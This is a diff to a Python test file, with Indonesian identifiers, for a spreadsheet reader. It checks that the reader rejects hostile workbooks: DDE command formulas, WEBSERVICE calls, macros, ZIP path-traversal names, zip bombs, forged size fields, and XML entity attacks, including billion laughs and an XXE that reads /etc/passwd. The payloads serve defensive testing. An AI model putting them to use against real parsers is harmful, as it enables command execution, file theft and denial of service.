@@ -6,6 +6,9 @@ a coverage-guided fuzzer.
 
 from __future__ import annotations
 
+import io
+import zipfile
+from collections.abc import Mapping
 from pathlib import Path
 
 import acak
@@ -104,14 +107,206 @@ def test_naskah_berjenis_salah(naskah: str, tmp_path: Path) -> None:
 # ---------------------------------------------------------------- workbooks
 
 
-@pytest.mark.parametrize(
-    "rumus",
-    ["cmd|'/c calc'!A0", 'HYPERLINK("http://contoh.invalid","buka")', "'[lain.xlsx]Lembar'!A1", "1/0"],
-)
-def test_rumus_tidak_dijalankan(rumus: str, tmp_path: Path) -> None:
-    """A formula is never computed: without the value that a spreadsheet stored it is refused in words."""
-    berkas = buku(tmp_path / "a.xlsx", mentah(DASAR))
-    polos = rumus.replace("&", "&amp;").encode()
-    tambal(berkas, rb"</sheetData>", b'<row r="90"><c r="A90"><f>' + polos + b"</f></c></row></sheetData>")
+RUMUS_KELUAR = {
+    "cmd|'/c calc'!A0": "menjalankan program lain",
+    "'excel'|'C:\\[a.xlsx]S'!A1": "menjalankan program lain",
+    'HYPERLINK("http://contoh.invalid","buka")': "HYPERLINK menjangkau",
+    'IFERROR(_xlfn.WEBSERVICE("http://contoh.invalid/"&B2),0)': "WEBSERVICE menjangkau",
+    "'[lain.xlsx]Lembar Satu'!A1": "dari buku kerja lain",
+    "VLOOKUP(B2,[1]Rujukan!$A:$B,2,0)": "dari buku kerja lain",
+    "[2]!NamaRentang": "dari buku kerja lain",
+    "SUM(" + "1+" * 5000 + "1)": "lebih panjang",
+}
+RUMUS_DALAM = [
+    "6*2",
+    "SUM(Tabel1[Target])-Bantu!B2",
+    "'Lembar A|B'!A1",
+    '"[1]x!"&"HYPERLINK("',
+    "Tabel1[[#This Row],[A]]",
+]
+
+
+def berumus(berkas: Path, rumus: str, tersimpan: bool = True) -> Path:
+    """A workbook whose cell opd!A3 is this formula, with or without its stored result."""
+    isi = [["kode", "nama"], ["DINKES", "Dinas"], [(f"={rumus}", "KODE"), "Badan"], ["BKPSDM", "Badan"]]
+    buku(berkas, mentah(DASAR, opd=isi))
+    return berkas if tersimpan else tambal(berkas, rb' t="str"><f>(.*?)</f><v>KODE</v>', rb"><f>\1</f>")
+
+
+@pytest.mark.parametrize("rumus", list(RUMUS_KELUAR))
+def test_rumus_yang_menjangkau_keluar_ditolak(rumus: str, tmp_path: Path) -> None:
+    """With the value that a spreadsheet stored and without it, at its sheet, row and column."""
+    for tersimpan in (True, False):
+        with pytest.raises(GalatData) as info:
+            baca(berumus(tmp_path / "a.xlsx", rumus, tersimpan))
+        (t,) = [t for t in info.value.temuan if t.huruf == "A" and t.baris == 3]
+        assert (t.lembar, t.nilai) == ("opd", f"={rumus}"[:80])
+        assert RUMUS_KELUAR[rumus] in t.pesan
+        assert "nilainya" in t.perbaikan
+        assert "kolom A, baris 3: rumus" in str(info.value)
+
+
+@pytest.mark.parametrize("rumus", RUMUS_DALAM)
+def test_rumus_di_dalam_buku_dibaca_nilainya(rumus: str, tmp_path: Path) -> None:
+    """Never computed: the stored value counts, and without one the cell is refused."""
+    assert baca(berumus(tmp_path / "a.xlsx", rumus)).tabel["opd"]["kode"].tolist()[1] == "KODE"
+    berkas = berumus(tmp_path / "b.xlsx", rumus, tersimpan=False)
     with pytest.raises(GalatData, match="rumus yang hasilnya belum tersimpan"):
         baca(berkas)
+
+
+def test_rumus_disembunyikan_dalam_xml(tmp_path: Path) -> None:
+    for f in (b"HYPER<!-- -->LINK(1)", b"<![CDATA[HYPERLINK(1)]]>", b"&#72;YPERLINK(1)", b"hyperlink (1)"):
+        berkas = berumus(tmp_path / "a.xlsx", "6*2")
+        tambal(berkas, rb"<f>6\*2</f>", b'<f ca="1" xml:space="preserve">' + f + b"</f >")
+        with pytest.raises(GalatData, match="HYPERLINK menjangkau"):
+            baca(berkas)
+
+
+def test_semua_rumus_keluar_disebut_sekaligus(tmp_path: Path) -> None:
+    berkas = buku(tmp_path / "a.xlsx", mentah(DASAR))
+    tambal(berkas, rb"</sheetData>", b'<row r="9"><c r="AB9"><f>[1]S!A1</f><v>1</v></c></row></sheetData>')
+    with pytest.raises(GalatData) as info:
+        baca(berkas)
+    assert [(t.lembar, t.huruf, t.baris) for t in info.value.temuan] == [
+        ("opd", "AB", 9),
+        ("pegawai", "AB", 9),
+    ]
+
+
+# ---------------------------------------------------------------- what is in the ZIP
+
+
+def bagian(tmp_path: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(buku(tmp_path / "utuh.xlsx", mentah(DASAR))) as z:
+        return {n: z.read(n) for n in z.namelist()}
+
+
+def terzip(isi: Mapping[str, bytes]) -> bytes:
+    keluar = io.BytesIO()
+    with zipfile.ZipFile(keluar, "w", zipfile.ZIP_DEFLATED) as z:
+        for nama, x in isi.items():
+            z.writestr(nama, x)
+    return keluar.getvalue()
+
+
+def ditolak(tmp_path: Path, isi: bytes, kata: str) -> GalatData:
+    (tmp_path / "a.xlsx").write_bytes(isi)
+    with pytest.raises(GalatData) as info:
+        baca(tmp_path / "a.xlsx")
+    acak.bersuara(info.value)
+    assert kata in str(info.value)
+    return info.value
+
+
+@pytest.mark.parametrize(
+    ("nama", "kata"),
+    [
+        ("xl/vbaProject.bin", "berisi makro"),
+        ("XL/VBAPROJECT.BIN", "berisi makro"),
+        ("xl/macrosheets/sheet1.xml", "berisi makro"),
+        ("xl/connections.xml", "terhubung ke data di luarnya"),
+        ("xl/queryTables/queryTable1.xml", "terhubung ke data di luarnya"),
+        ("xl/externalLinks/externalLink1.xml", "bertaut ke buku kerja atau program lain"),
+        ("../../etc/cron.d/x", "bernama keluar dari berkasnya"),
+        ("xl/..\\..\\x", "bernama keluar dari berkasnya"),
+        ("/etc/x", "bernama keluar dari berkasnya"),
+        ("C:/x", "bernama keluar dari berkasnya"),
+        ("xl/Workbook.xml", "dua bagian di dalam berkas bernama sama"),
+        ("xl\\workbook.xml", "dua bagian di dalam berkas bernama sama"),
+    ],
+)
+def test_bagian_terlarang(nama: str, kata: str, tmp_path: Path) -> None:
+    ditolak(tmp_path, terzip({**bagian(tmp_path), nama: b"<x/>"}), kata)
+
+
+def test_bawaan_disebut_sekaligus(tmp_path: Path) -> None:
+    lain = {
+        "xl/vbaProject.bin": b"x",
+        "xl/connections.xml": b"<x/>",
+        "xl/externalLinks/externalLink1.xml": b"<x/>",
+    }
+    galat = ditolak(tmp_path, terzip({**bagian(tmp_path), **lain}), "3 galat")
+    assert len(galat.temuan) == 3
+    berkas = tambal(
+        tmp_path / "a.xlsx", rb"</sheetData>", b'<row r="9"><c r="B9"><f>[1]S!A1</f></c></row></sheetData>'
+    )  # of the links, the cells that use them
+    with pytest.raises(GalatData) as info:
+        baca(berkas)
+    assert [(t.lembar, t.huruf, t.baris) for t in info.value.temuan if t.lembar] == [
+        ("opd", "B", 9),
+        ("pegawai", "B", 9),
+    ]
+
+
+def test_nama_ganda_dalam_zip(tmp_path: Path) -> None:
+    keluar = io.BytesIO(terzip(bagian(tmp_path)))
+    with zipfile.ZipFile(keluar, "a") as z, pytest.warns(UserWarning, match="Duplicate name"):
+        z.writestr("xl/workbook.xml", b"<x/>")
+    ditolak(tmp_path, keluar.getvalue(), "dua bagian di dalam berkas bernama sama")
+
+
+def test_hubungan_keluar_dari_zip(tmp_path: Path) -> None:
+    isi = bagian(tmp_path)
+    hubungan = isi["xl/_rels/workbook.xml.rels"]
+    for tujuan in (
+        b"../../../../etc/passwd",
+        b"file:///etc/passwd",
+        b"/etc/passwd",
+        b"http://contoh.invalid/x",
+    ):
+        baru = {**isi, "xl/_rels/workbook.xml.rels": hubungan.replace(b"worksheets/sheet1.xml", tujuan)}
+        ditolak(tmp_path, terzip(baru), "rusak")
+
+
+def test_zip_di_dalam_zip(tmp_path: Path) -> None:
+    """A bomb in a part is never opened; as a sheet it is no XML; a workbook in an archive is an archive."""
+    bom = terzip({"nol": bytes(50 * 1024**2)})
+    isi = bagian(tmp_path)
+    (tmp_path / "b.xlsx").write_bytes(terzip({**isi, "xl/embeddings/bom.zip": bom}))
+    assert len(baca(tmp_path / "b.xlsx").tabel["pegawai"]) == 3
+    for nama in ("xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml"):
+        ditolak(tmp_path, terzip({**isi, nama: bom}), "bukan XML bersandi UTF-8")
+    ditolak(tmp_path, terzip({"data.xlsx": terzip(isi)}), "arsip ZIP, bukan buku kerja")
+
+
+@pytest.mark.parametrize(
+    "nama", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/sharedStrings.xml", "xl/SHAREDSTRINGS.xml"]
+)
+@pytest.mark.parametrize("besar", [5, 2**31])
+def test_ukuran_yang_bohong(nama: str, besar: int, tmp_path: Path) -> None:
+    """The directory says 5 bytes, or 2 GB, of a part that unpacks to 20 MB."""
+    isi = bagian(tmp_path)
+    asal = next(n for n in isi if n.lower() == nama.lower())
+    isi[nama] = isi.pop(asal) + b" " * 20 * 1024**2
+    keluar = bytearray(terzip(isi))
+    letak = keluar.rindex(nama.encode()) - 46 + 24  # the size in the central directory
+    assert int.from_bytes(keluar[letak : letak + 4], "little") == len(isi[nama])
+    keluar[letak : letak + 4] = besar.to_bytes(4, "little")
+    ditolak(tmp_path, bytes(keluar), "rusak" if besar == 5 else "mengembang menjadi")
+
+
+ENTITAS = {
+    "tertawa": b"".join(
+        b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10 if i else b"lol") for i in range(12)
+    ),
+    "kuadrat": b'<!ENTITY l11 "' + b"x" * 100_000 + b'">',
+    "luar": b'<!ENTITY l11 SYSTEM "file:///etc/passwd">',
+    "parameter": b'<!ENTITY % p SYSTEM "http://contoh.invalid/x.dtd"> %p;',
+}
+
+
+@pytest.mark.parametrize("jenis", sorted(ENTITAS))
+@pytest.mark.parametrize(
+    "nama", ["xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"]
+)
+def test_entitas_xml(jenis: str, nama: str, tmp_path: Path) -> None:
+    isi = bagian(tmp_path)
+    kepala, badan = isi[nama].split(b"?>", 1)
+    awal, akhir = badan.rsplit(b"</", 1)
+    dtd = b"<!DOCTYPE x [" + ENTITAS[jenis] + b"]>" + awal + b"&l11;" * 2000 + b"</" + akhir
+    ditolak(tmp_path, terzip({**isi, nama: kepala + b"?>" + dtd}), "deklarasi DTD")
+    # the same where no search for bytes would see it
+    for sandi in ("utf-16", "utf-16-be", "utf-7", "cp037", "utf-32"):
+        lain = (kepala + b"?>" + dtd).replace(b"UTF-8", sandi.upper().encode())
+        ditolak(tmp_path, terzip({**isi, nama: lain.decode().encode(sandi)}), "bukan XML bersandi UTF-8")
